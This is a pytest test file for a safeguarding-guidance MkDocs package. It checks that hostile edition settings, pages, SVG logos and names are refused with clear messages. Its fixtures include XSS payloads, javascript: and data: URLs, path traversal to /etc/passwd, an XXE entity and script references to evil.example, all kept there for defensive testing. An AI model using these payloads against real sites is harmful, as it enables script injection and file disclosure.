"""An edition's own files are input (issue 21): no file from the build machine, no script the package
did not write, contacts that are data, limits checked where they are set, and a complete settings
guard. Each hostile edition is a copy of examples/harbourside changed in a temporary folder and built
with `mkdocs build --strict` (without the PDF); each refusal must name what to fix. Unit tests cover
the finer cases of each check without a build. tests/test_package.py builds a hostile edition from
the installed wheel too."""

from __future__ import annotations

import copy
import html
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from conftest import MKDOCS, ROOT, WITHOUT_PDF, build_site
from safeguarding_guidance import edition_files, page_content, page_scripts, partnership_config, scaffold, security_headers

HARBOURSIDE = ROOT / "examples" / "harbourside"
VALID = yaml.safe_load((HARBOURSIDE / "mkdocs.yml").read_text(encoding="utf-8"))
PAGE_FRONT_MATTER = """---
title: {title}
description: A local page.
last_reviewed: 2026-11-30
review_due: 2027-02-28
sources:
  - title: UK General Data Protection Regulation, as amended
    date: 2026-02-05
    url: https://www.legislation.gov.uk/eur/2016/679/contents
---
"""


def edition(tmp_path: Path, settings: dict | None = None, extra_yaml: str = "", name: str = "edition") -> Path:
    """A copy of the Harbourside edition with `settings` as its mkdocs.yml (plus raw YAML lines)."""
    folder = tmp_path / name
    shutil.copytree(HARBOURSIDE, folder)
    text = yaml.safe_dump(settings if settings is not None else VALID, sort_keys=False, allow_unicode=True)
    (folder / "mkdocs.yml").write_text(text + extra_yaml, encoding="utf-8")
    return folder


def build(folder: Path, tmp_path: Path) -> tuple[int, str]:
    result = build_site(folder / "mkdocs.yml", tmp_path / f"{folder.name}-site", env=WITHOUT_PDF)
    return result.returncode, result.stdout + result.stderr


def edition_problems(folder: Path) -> list[str]:
    """What the plugin's first step finds wrong with an edition folder, without building it."""
    from mkdocs.config import load_config

    from safeguarding_guidance import edition as editions
    from safeguarding_guidance.resources import shared_files

    config = load_config(config_file=str(folder / "mkdocs.yml"))
    found, problems, _ = editions.apply_base(config, shared_files())
    return problems + editions.edition_problems(config, found, shared_files())


def changed(**changes) -> dict:
    """The valid settings with dotted keys changed ("extra.partnership.logo": value; None deletes)."""
    settings = copy.deepcopy(VALID)
    for dotted, value in changes.items():
        *path, last = dotted.replace("__", ".").split(".")
        target = settings
        for key in path:
            target = target.setdefault(key, {})
        if value is None:
            target.pop(last, None)
        else:
            target[last] = value
    return settings


# --- 1, 3, 4, 5: one build refuses every setting at fault, each named --------------------------------

HOSTILE_SETTINGS = {
    "extra.partnership.logo": "../../../../../../../../etc/passwd",
    "extra.partnership.favicon": "/proc/self/environ",
    "extra.partnership.name": "H" * 201,
    "extra.partnership.links.escalation_procedure.url": "javascript:alert(1)",
    "extra.partnership.links.data_sharing_agreement.url": "http://harbourside-scp.example/isa",
    "extra.partnership.contacts.police.url": "data:text/html;base64,PHNjcmlwdD4=",
    "extra.partnership.contacts.police.name": "Police](javascript:alert(1))[x",
    "extra.partnership.contacts.childrens_social_care.notes": "Ring us, or see javascript:alert(document.cookie)",
    "extra.partnership.contacts.out_of_hours.phone": "01632 960 199 [night line](https://evil.example)",
    "extra.partnership.contacts.data_protection_officer.email": "dpo@harbourside.example](javascript:alert(1)",
    "extra.partnership.contacts.caldicott_guardian.url": "http://caldicott.harbourside.example/",
    "site_url": "http://guidance.harbourside-scp.example/",
    "theme": {"name": "material"},
    "extra_javascript": ["evil.js"],
    "extra_css": ["evil.css"],
    "extra.scope": '",alert(1),"',
    "extra.analytics": {"provider": "google", "property": "G-TEST1234"},
    "repo_url": "https://github.com/harbourside/guidance",
    "plugins": ["safeguarding", "material/tags"],
}
NAMED = [
    "remove the YAML tag !ENV",
    "remove theme, extra_css, extra_javascript: the guidance package sets them",
    "remove repo_url: an edition's mkdocs.yml can set only site_name",
    "remove material/tags from plugins",
    "remove extra.scope: an edition's extra holds only partnership",
    "remove extra.analytics: an edition's extra holds only partnership",
    "site_url must be the https:// address the guidance is published at",
    "extra.partnership.name is 201 characters long: at most 200 are allowed",
    "extra.partnership.logo '../../../../../../../../etc/passwd' leads outside the edition's folder",
    "extra.partnership.favicon must be a path inside the edition's folder, not '/proc/self/environ'",
    "extra.partnership.links.escalation_procedure.url must be a web address starting https://, or one of this edition's pages",
    "extra.partnership.links.data_sharing_agreement.url must be a web address starting https://",
    "extra.partnership.contacts.police.url must be a web address starting https://",
    "extra.partnership.contacts.caldicott_guardian.url must be a web address starting https://",
    "extra.partnership.contacts.police.name must be plain text: square brackets would make a Markdown link",
    "extra.partnership.contacts.childrens_social_care.notes must be plain text, not a web address ('javascript:')",
    "extra.partnership.contacts.out_of_hours.phone must be plain text: square brackets would make a Markdown link",
    "extra.partnership.contacts.data_protection_officer.email must be plain text: square brackets would make a Markdown link",
    "pages/local/leak.md: is a link to a file outside the edition's pages folder",
]


def test_a_hostile_mkdocs_yml_is_refused_in_one_build_naming_every_setting(tmp_path):
    folder = edition(tmp_path, changed(**HOSTILE_SETTINGS), extra_yaml="site_author: !ENV [HOME]\n")
    secret = tmp_path / "secret.md"
    secret.write_text("SECRET-FROM-THE-BUILD-MACHINE TODO\n", encoding="utf-8")
    (folder / "pages" / "local" / "leak.md").symlink_to(secret)
    code, log = build(folder, tmp_path)
    assert code != 0
    assert log.count("this edition is not ready to publish") == 1
    assert f"Fix these {len(NAMED)} problems" in log, log
    for problem in NAMED:
        assert problem in log, problem
    assert not (tmp_path / "edition-site" / "index.html").exists()
    assert "root:x:0:0" not in log and "SECRET-FROM-THE-BUILD-MACHINE" not in log


def test_hooks_are_refused_before_mkdocs_runs_them(tmp_path):
    """MkDocs imports hooks while it reads the configuration: the plugin refuses them first."""
    marker = tmp_path / "the-hook-ran"
    folder = edition(tmp_path, extra_yaml="hooks:\n  - build_hook.py\n")
    (folder / "build_hook.py").write_text(f"from pathlib import Path\nPath({str(marker)!r}).write_text('ran')\n")
    code, log = build(folder, tmp_path)
    assert code != 0
    assert "remove hooks: hooks run Python code at build time" in log
    assert not marker.exists()


def test_inherit_is_refused_before_mkdocs_reads_the_other_file_s_hooks(tmp_path):
    marker = tmp_path / "the-hook-ran"
    other = tmp_path / "other"
    other.mkdir()
    (other / "mkdocs.yml").write_text("hooks:\n  - build_hook.py\n", encoding="utf-8")
    (other / "build_hook.py").write_text(f"from pathlib import Path\nPath({str(marker)!r}).write_text('ran')\n")
    folder = edition(tmp_path, extra_yaml=f"INHERIT: {other / 'mkdocs.yml'}\n")
    code, log = build(folder, tmp_path)
    assert code != 0 and "remove INHERIT" in log
    assert not marker.exists()


@pytest.mark.parametrize("docs_dir", ["../../../../../../../../etc", "/etc", "linked-pages"])
def test_docs_dir_must_be_a_folder_inside_the_edition(tmp_path, docs_dir):
    folder = edition(tmp_path, changed(docs_dir=docs_dir))
    (folder / "linked-pages").symlink_to("/etc")
    problems = edition_problems(folder)
    assert any("docs_dir " in problem for problem in problems), problems
    assert not any("still says TODO" in problem for problem in problems)  # it read nothing from there


def test_site_dir_set_in_the_file_stays_inside_the_edition(tmp_path):
    assert any("site_dir '../../public' leads outside" in p for p in edition_problems(edition(tmp_path, changed(site_dir="../../public"))))
    assert edition_problems(edition(tmp_path, changed(site_dir="public"), name="inside")) == []


def test_a_link_must_name_a_page_of_the_edition(tmp_path):
    folder = edition(tmp_path, changed(**{"extra.partnership.links.escalation_procedure.url": "local/no-such-page.md"}))
    assert any("links.escalation_procedure.url names local/no-such-page.md, which is not a page of this edition" in p
               for p in edition_problems(folder))
    folder = edition(tmp_path, changed(**{"extra.partnership.links.escalation_procedure.url": "../outside.md"}), name="up")
    assert any("links.escalation_procedure.url must be a web address starting https://, or one of this edition's pages" in p
               for p in edition_problems(folder))


def test_a_local_page_may_not_choose_its_template(tmp_path):
    folder = edition(tmp_path)
    page = folder / "pages" / "local" / "escalation-procedure.md"
    page.write_text(page.read_text(encoding="utf-8").replace("---\n", "---\ntemplate: 404.html\n", 1), encoding="utf-8")
    assert any("remove template from the front matter" in p for p in edition_problems(folder))


# --- 3: contacts are data -----------------------------------------------------------------------

CONTACT_CASES = [
    ("name", "Police](javascript:alert(1))[x", "square brackets would make a Markdown link"),
    ("name", "Police [team]", "square brackets would make a Markdown link"),
    ("name", "Police <b>team</b>", "placeholder"),
    ("name", "Police > team", "not HTML"),
    ("name", "Police\u202eecilop", "control or invisible formatting character"),
    ("phone", "javascript:alert(1)", "not a web address ('javascript:')"),
    ("phone", "0163 JAVASCRIPT : alert(1)", "not a web address"),
    ("phone", "call 01632 960 100", "must be a phone number"),
    ("phone", "data:text/html,x", "not a web address ('data:')"),
    ("email", "dpo@harbourside.example?subject=x", "must be an email address"),
    ("email", "http://dpo.example", "not a web address ('http:')"),
    ("email", "[dpo@harbourside.example](javascript:alert(1))", "square brackets"),
    ("notes", "See [the policy](https://evil.example)", "square brackets"),
    ("notes", "Visit http://insecure.example now", "not a web address ('http:')"),
    ("notes", "Run vbscript:msgbox", "not a web address ('vbscript:')"),
    ("hours", "Always\x00", "control or invisible formatting character"),
    ("url", "javascript:alert(1)", "must be a web address starting https://"),
    ("url", "https://evil.example/\"onmouseover=\"alert(1)", "must be a web address starting https://"),
    ("url", "data:text/html,x", "must be a web address starting https://"),
    ("url", "HTTPS://police.example/", "must be a web address starting https://"),
]


@pytest.mark.parametrize(("field", "value", "message"), CONTACT_CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CONTACT_CASES)])
def test_contact_fields_refuse_what_is_not_data_naming_the_field(field, value, message):
    partnership = copy.deepcopy(VALID["extra"]["partnership"])
    partnership["contacts"]["police"][field] = value
    problems = partnership_config.partnership_problems(partnership)
    named = [p for p in problems if p.startswith(f"extra.partnership.contacts.police.{field} ")]
    assert named and message in named[0], problems


@pytest.mark.parametrize("value", ["Data protection: ask the DPO first.", "Open 9am to 5pm (Monday: 10am). Call 999 in an emergency.",
                                   "Harbourside Children's Front Door (MASH) & Early Help"])
def test_ordinary_words_are_not_mistaken_for_addresses(value):
    partnership = copy.deepcopy(VALID["extra"]["partnership"])
    partnership["contacts"]["police"]["notes"] = value
    partnership["contacts"]["police"]["name"] = value
    assert partnership_config.partnership_problems(partnership) == []


def test_every_edition_limit_is_checked_at_build_time_naming_the_field():
    from checkers import decision_record

    partnership = copy.deepcopy(VALID["extra"]["partnership"])
    assert partnership_config.MAX_LENGTHS["name"] == decision_record.PARTNERSHIP_MAX_LENGTH == 200
    partnership["name"] = "N" * 200
    assert partnership_config.partnership_problems(partnership) == []
    for key, limit in partnership_config.MAX_LENGTHS.items():
        too_long = copy.deepcopy(VALID["extra"]["partnership"])
        kind, _, field = key.rpartition(".")
        if kind == "contact":
            too_long["contacts"]["police"][field] = ("https://police.example/" + "p" * limit) if field == "url" else \
                ("a" * limit + "@x.example") if field == "email" else ("1" * (limit + 1)) if field == "phone" else "w" * (limit + 1)
            named = f"extra.partnership.contacts.police.{field} is"
        elif kind == "link":
            too_long["links"]["data_sharing_agreement"][field] = ("https://isa.example/" + "p" * limit) if field == "url" else "w" * (limit + 1)
            named = f"extra.partnership.links.data_sharing_agreement.{field} is"
        else:
            too_long[field] = "w" * (limit + 1)
            named = f"extra.partnership.{field} is"
        problems = partnership_config.partnership_problems(too_long)
        assert any(p.startswith(named) and f"at most {limit} are allowed" in p for p in problems), (key, problems)


def test_the_partnership_name_at_the_limit_makes_a_decision_record():
    """What the build lets through, the checkers accept: a 200-character name makes a record."""
    from checkers import api

    name = "N" * partnership_config.MAX_LENGTHS["name"]
    request = {"checker": "key-questions", "answers": {"purpose": "yes"}, "partnership": name,
               "details": {"what": "w", "with_whom": "x", "why": "y", "when": "z", "by_whom": "b", "decision": "shared", "reasons": "r"}}
    assert api.evaluate("decision-record", request)["record"]["partnership"] == name


# --- 1: images by content -----------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
SVG_PLAIN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><linearGradient id="g"/></defs><rect fill="url(#g)" width="10" height="10"/><use href="#g"/></svg>'
SVG_HOSTILE = {
    "script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "event handler": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "foreignObject": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>',
    "reference outside": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/x.png"/></svg>',
    "file reference": '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    "css url": '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill: url(https://evil.example/x)"/></svg>',
    "css import": '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example/x.css";</style></svg>',
    "DOCTYPE": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    "animation": '<svg xmlns="http://www.w3.org/2000/svg"><a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
}


@pytest.mark.parametrize("name", list(SVG_HOSTILE))
def test_an_svg_logo_with_anything_beyond_a_picture_is_refused(tmp_path, name):
    (tmp_path / "logo.svg").write_text(SVG_HOSTILE[name], encoding="utf-8")
    with pytest.raises(ValueError, match="is an SVG with") as error:
        edition_files.read_image(tmp_path, "logo.svg")
    assert "'logo.svg'" in str(error.value)


def test_images_are_judged_by_their_content(tmp_path):
    (tmp_path / "logo.svg").write_text(SVG_PLAIN, encoding="utf-8")
    assert edition_files.read_image(tmp_path, "logo.svg").kind == "svg"
    (tmp_path / "logo.png").write_bytes(PNG)
    assert edition_files.read_image(tmp_path, "logo.png").extension == ".png"
    (tmp_path / "photo.svg").write_bytes(b"\xff\xd8\xff\xe0" + b"\0" * 20)  # a JPEG named .svg is a JPEG
    assert edition_files.read_image(tmp_path, "photo.svg").extension == ".jpg"
    (tmp_path / "mark.png").write_bytes(b"RIFF\0\0\0\0WEBPVP8 " + b"\0" * 20)
    assert edition_files.read_image(tmp_path, "mark.png").kind == "webp"
    (tmp_path / "environ.png").write_bytes(b"PATH=/usr/bin\0SECRET=abc\0")
    with pytest.raises(ValueError, match="is not an SVG, PNG, WebP or JPEG image"):
        edition_files.read_image(tmp_path, "environ.png")
    (tmp_path / "leak.svg").symlink_to("/etc/passwd")
    with pytest.raises(edition_files.OutsideEdition, match="leads outside the edition's folder"):
        edition_files.read_image(tmp_path, "leak.svg")
    with pytest.raises(edition_files.OutsideEdition):
        edition_files.read_image(tmp_path, "file:///etc/passwd")


def test_the_logo_is_published_under_the_packages_name_for_its_kind(tmp_path):
    folder = edition(tmp_path, changed(**{"extra.partnership.logo": "images/Our Logo (2026).png"}))
    (folder / "images").mkdir()
    (folder / "images" / "Our Logo (2026).png").write_bytes(PNG)
    code, log = build(folder, tmp_path)
    assert code == 0, log
    site = tmp_path / "edition-site"
    assert (site / "assets" / "partnership" / "logo.png").read_bytes() == PNG
    assert 'src="assets/partnership/logo.png"' in (site / "index.html").read_text(encoding="utf-8")


# --- 2: a local page's own content --------------------------------------------------------------

HOSTILE_PAGE = PAGE_FRONT_MATTER.format(title="Hostile page") + """# Hostile page

Ordinary text, with [a link](https://www.gov.uk/) and <abbr title="Designated safeguarding lead">DSL</abbr>.

<script>alert(1)</script>

<iframe src="https://evil.example/"></iframe>

<object data="x.swf"></object>

<embed src="x.swf">

<form><input name="x"></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<img src="file:///etc/hostname" alt="">

![host](/etc/hostname)

[click me](javascript:alert(1))

<a href="java&#x09;script:alert(1)">obfuscated</a>

<img src="x.png" onerror="alert(1)" alt="">

<img src="../../../../outside.png" alt="">

<!-- md:checker lawful-basis -->
"""
PAGE_PROBLEMS = [
    (15, "a script (the site runs only the guidance package's own scripts)"),
    (17, "an <iframe>"),
    (19, "an <object>"),
    (21, "an <embed>"),
    (23, "a <form> (the site sends nothing anywhere)"),
    (25, "a <meta> element"),
    (27, "a file on the build machine (file:///etc/hostname), in src= on <img>"),
    (29, "an absolute path, which can name a file on the build machine (/etc/hostname)"),
    (31, "a javascript: address (javascript:alert(1))"),
    (33, "a javascript: address"),
    (35, "an event handler (onerror=) on <img>"),
    (37, "a path that leads outside the site (../../../../outside.png)"),
]


def test_a_local_page_s_scripts_frames_forms_and_files_are_refused_naming_page_and_line(tmp_path):
    folder = edition(tmp_path)
    (folder / "pages" / "local" / "hostile.md").write_text(HOSTILE_PAGE, encoding="utf-8")
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-FROM-THE-BUILD-MACHINE\n", encoding="utf-8")
    (folder / "pages" / "local" / "snippet.md").write_text(
        PAGE_FRONT_MATTER.format(title="Snippet") + f'# Snippet\n\n--8<-- "{secret}"\n', encoding="utf-8")
    code, log = build(folder, tmp_path)
    assert code != 0
    assert log.count("this edition is not ready to publish") == 1
    # pymdownx.snippets keeps to the package's own includes: the page is named, with no traceback.
    assert f"pages/local/snippet.md, line 13: cannot be published: Snippet at path '{secret}' could not be found" in log
    assert "Traceback" not in log and "SECRET-FROM-THE-BUILD-MACHINE" not in log
    lines = [line.strip() for line in log.splitlines() if "hostile.md" in line]
    for number, problem in PAGE_PROBLEMS:
        assert any(f"pages/local/hostile.md, line {number}: {problem}" in line for line in lines), (number, problem, lines)
    # The package's own checker, written by the md:checker marker on the same page, is not refused.
    assert not any("line 39" in line for line in lines)
    assert not (tmp_path / "edition-site" / "index.html").exists()


def test_page_content_check_allows_what_pages_need():
    render = __import__("markdown").Markdown(extensions=["attr_list", "md_in_html", "tables"]).convert
    text = ("# Title\n\n[gov](https://www.gov.uk/) [mail](mailto:a@b.example) [tel](tel:01632960100) [page](../contacts.md) "
            "[anchor](#x)\n\n![logo](data:image/png;base64,iVBORw0KGgo=)\n\n<details><summary>More</summary>Text</details>\n")
    assert page_content.content_problems(text, "local/page.md", render, text, "page.md") == []


# --- 2: titles, descriptions and names are text everywhere -----------------------------------------

TITLE = "</title><script>alert('title')</script> & \"quoted\""
DESCRIPTION = 'A "quoted" description"><script>alert(2)</script>'


def test_titles_descriptions_and_names_are_text_wherever_they_go(tmp_path):
    settings = changed(site_name='Harbourside "Safe" & Sound Partnership', site_description='Guidance "quoted" & plain',
                       copyright='Text & "quotes"', **{"extra.partnership.reviewed_by": 'Policy & "Procedures" Group',
                                                       "extra.partnership.contacts.police.notes": "Ring 101 *now* & ask for _PPU_ `code`"})
    folder = edition(tmp_path, settings)
    page = folder / "pages" / "local" / "escalation-procedure.md"
    text = page.read_text(encoding="utf-8")
    text = re.sub(r"^title: .*$", "title: " + json.dumps(TITLE), text, count=1, flags=re.M)
    text = re.sub(r"^description: .*$", "description: " + json.dumps(DESCRIPTION), text, count=1, flags=re.M)
    page.write_text(text, encoding="utf-8")
    code, log = build(folder, tmp_path)
    assert code == 0, log
    site = tmp_path / "edition-site"
    for path in site.rglob("*"):
        if path.suffix in (".html", ".json", ".xml", ".js"):
            content = path.read_text(encoding="utf-8")
            assert "<script>alert" not in content and "\\u003cscript\\u003ealert" not in content, path
    built = (site / "local" / "escalation-procedure" / "index.html").read_text(encoding="utf-8")
    assert f"<title>{html.escape(TITLE)} - {html.escape(settings['site_name'])}</title>" in built
    assert f'<meta name="description" content="{html.escape(DESCRIPTION)}">' in built
    home = (site / "index.html").read_text(encoding="utf-8")
    assert html.escape(TITLE) in home  # the navigation
    assert 'aria-label="Harbourside &quot;Safe&quot; &amp; Sound Partnership"' in home
    assert re.search(r'title="What changed: Harbourside (&#34;|&quot;)Safe(&#34;|&quot;) &amp; Sound Partnership"', home)
    assert re.search(r"reviewed by Policy &amp; (&#34;|&quot;)Procedures(&#34;|&quot;) Group\.", home)
    contacts = (site / "local" / "contacts" / "index.html").read_text(encoding="utf-8")
    assert "Ring 101 *now* &amp; ask for _PPU_ `code`" in contacts
    # The CSP hashes only the theme's own scripts.
    policy = re.search(r"script-src [^;]+", (site / "_headers").read_text(encoding="utf-8")).group(0)
    known = page_scripts.installed_scripts()
    scripts = {script for path in site.rglob("*.html")
               for script, _ in page_scripts.scan_page(path.read_text(encoding="utf-8")).inline_scripts}
    assert scripts and all(known.allows_inline(script) for script in scripts)
    assert sorted(re.findall(r"'sha256-[^']+'", policy)) == security_headers.script_hashes(site, known)[0]


def test_the_pdf_escapes_titles(tmp_path):
    from safeguarding_guidance import pdf

    site = tmp_path / "site"
    (site / "local").mkdir(parents=True)
    (site / "local" / "index.html").write_text('<article class="md-content__inner md-typeset"><p>Text</p></article>', encoding="utf-8")
    document = pdf.PdfDocument(TITLE, "Subtitle", TITLE, "1.0.0", *(__import__("datetime").date(2026, 12, 6),) * 3,
                               "https://guidance.example/", "")
    source = pdf.document_html(site, [pdf.PdfPage("local/", TITLE, TITLE)], document)
    assert "<script>" not in source and html.escape(TITLE) in source


# --- 2: the post-build step hashes only the package's own scripts --------------------------------


def _site_with(tmp_path: Path, body: str, head: str = "") -> Path:
    site = tmp_path / "site"
    (site / "assets" / "javascripts").mkdir(parents=True)
    (site / "assets" / "javascripts" / "bundle.min.js").write_text("/* the theme */", encoding="utf-8")
    known = '<script>__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}</script>'
    (site / "page").mkdir()
    (site / "page" / "index.html").write_text(
        f"<!doctype html><html><head>{head}{known}</head>\n<body>\n"
        f'<form class="md-search__form" name="search"></form>\n{body}\n'
        '<script src="../assets/javascripts/bundle.min.js"></script></body></html>', encoding="utf-8")
    return site


def test_the_theme_s_own_inline_scripts_are_hashed_and_nothing_else(tmp_path):
    site = _site_with(tmp_path, "<p>Text</p>")
    hashes, problems = security_headers.script_hashes(site, page_scripts.installed_scripts())
    assert problems == [] and len(hashes) == 1


@pytest.mark.parametrize(("body", "problem"), [
    ("<script>alert(1)</script>", "line 4: an inline script the package did not write ('alert(1)')"),
    ('<script>__md_scope=new URL("",alert(1),"",location)</script>', "line 4: an inline script the package did not write"),
    ('<script type="module">import "https://evil.example/x.js"</script>', "line 4: an inline script the package did not write"),
    ('<script src="https://evil.example/x.js"></script>', "line 4: a script from outside the site"),
    ('<script src="../assets/partnership/logo.svg"></script>', "line 4: a script file that is not one of the site's own"),
    ('<iframe src="https://evil.example/"></iframe>', "line 4: <iframe>, which the package never writes"),
    ('<object data="x"></object>', "line 4: <object>, which the package never writes"),
    ('<embed src="x">', "line 4: <embed>, which the package never writes"),
    ('<form action="https://evil.example/"></form>', "line 4: a <form> the package did not write"),
    ('<form class="checker__form" action="https://evil.example/"></form>', "line 4: a <form> that submits somewhere"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'line 4: <meta http-equiv="refresh">'),
    ('<a href=" javascript:alert(1)">x</a>', "line 4: a javascript: address in href= on <a>"),
])
def test_anything_else_fails_the_build_naming_page_and_line(tmp_path, body, problem):
    site = _site_with(tmp_path, body)
    _, problems = security_headers.script_hashes(site, page_scripts.installed_scripts())
    assert any(p.startswith("page/index.html, ") and problem in p for p in problems), problems
    with pytest.raises(security_headers.PolicyViolation, match="page/index.html, line 4"):
        security_headers.write_headers(site, page_scripts.installed_scripts())


def test_the_known_scripts_come_from_the_theme_s_templates():
    """Material's script that sets the page's scope, with the path each page gives it, and nothing else."""
    import material

    template = (Path(material.__file__).parent / "templates" / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8")
    body = re.search(r"<script>(.*?)</script>", template, re.S).group(1)
    scripts = page_scripts.installed_scripts()
    for base in ("../../..", ".", "/", "/information-sharing/"):
        assert scripts.allows_inline(re.sub(r"\{\{.*?\}\}", base, body))
    assert not scripts.allows_inline(re.sub(r"\{\{.*?\}\}", '",alert(1),"', body))


# --- 1: the PDF reads nothing but the built site ------------------------------------------------


@pytest.mark.parametrize("src", ["file:///etc/hostname", "/etc/hostname", "../../../../../../etc/hostname", "https://example.com/x.png"])
def test_the_pdf_refuses_any_file_outside_the_built_site(tmp_path, src):
    from safeguarding_guidance import pdf

    site = tmp_path / "site"
    (site / "page").mkdir(parents=True)
    (site / "page" / "index.html").write_text(
        f'<article class="md-content__inner md-typeset"><h1>Page</h1><img src="{src}" alt=""></article>', encoding="utf-8")
    document = pdf.PdfDocument("Title", "Subtitle", "Author", "1.0.0", *(__import__("datetime").date(2026, 12, 6),) * 3, "", "")
    with pytest.raises(pdf.OutsideSite, match="The PDF would include files from outside the built site"):
        pdf.build_pdf(site, [pdf.PdfPage("page/", "Page", None)], document)
    assert not (site / pdf.PDF_NAME).exists()


# --- 5: the scaffold's --name -------------------------------------------------------------------


@pytest.mark.parametrize("name", ["Riverton\x1b[31m SCP", "Riverton\x7fSCP", "Riverton \u202eSCP", "Riverton\u200bSCP",
                                  "Riverton [SCP](javascript:x)", "Riverton <b>SCP</b>", "R" * 201])
def test_new_refuses_a_name_that_is_not_plain_text(tmp_path, name):
    result = subprocess.run([str(MKDOCS.parent / "safeguarding-guidance"), "new", str(tmp_path / "e"), "--name", name],
                            capture_output=True, text=True)
    assert result.returncode == 2, result
    assert result.stderr.startswith("safeguarding-guidance new: --name ") and result.stderr.count("\n") == 1
    assert not (tmp_path / "e").exists()


def test_new_refuses_a_nul_in_the_name():
    with pytest.raises(scaffold.ScaffoldError, match="control or invisible formatting character"):
        scaffold.check_name("Riverton\x00SCP")


@pytest.mark.parametrize("name", ['Riverton "Safe" Partnership', "Riverton & Vale \\ SCP", "Riverton: the 'Vale' SCP #1",
                                  "Ynys Môn Safeguarding Children Partnership", "Riverton\tSafeguarding\nPartnership"])
def test_new_writes_any_plain_name_so_that_it_reads_back_unchanged(name):
    # scaffold() writes mkdocs.yml as config_yaml() gives it, for the name check_name() accepts.
    settings = yaml.safe_load(scaffold.config_yaml(scaffold.check_name(name)))
    tidied = " ".join(name.split())
    assert settings["site_name"] == settings["extra"]["partnership"]["name"] == tidied


def test_the_readmes_say_what_an_edition_may_set():
    for path in (ROOT / "README.md", ROOT / "safeguarding_guidance" / "edition_template" / "README.md"):
        text = path.read_text(encoding="utf-8")
        for needed in ("hooks", "extra_javascript", "theme", "extra.partnership"):
            assert needed in text, (path, needed)


def test_a_local_case_s_title_and_covers_are_text_in_the_list_of_cases():
    """A partnership's case study is listed on the shared Case studies page: its title and what it
    covers come from the edition's front matter, and are never Markdown or HTML there."""
    import datetime as dt

    import markdown

    from safeguarding_guidance import case_studies

    case = case_studies.Case(
        id="local-case", page="pages/case-studies/local-case.md", src_uri="case-studies/local-case.md",
        title="<script>alert(1)</script> [x](javascript:alert(2))", description="d", checker="key-questions",
        input={}, expect={}, covers=("*bold* | <img src=x onerror=alert(3)>",), result={"outcome": "share"},
        evaluated_on=dt.date(2026, 12, 6), local=True)
    rendered = markdown.markdown(case_studies.index_markdown([case], "case-studies/index.md"), extensions=["tables"])
    assert "<script>" not in rendered and "<img" not in rendered and 'href="javascript:' not in rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(2))" in rendered
    assert "*bold* &#124; &lt;img src=x onerror=alert(3)&gt;" in rendered or "*bold* | &lt;img" in rendered
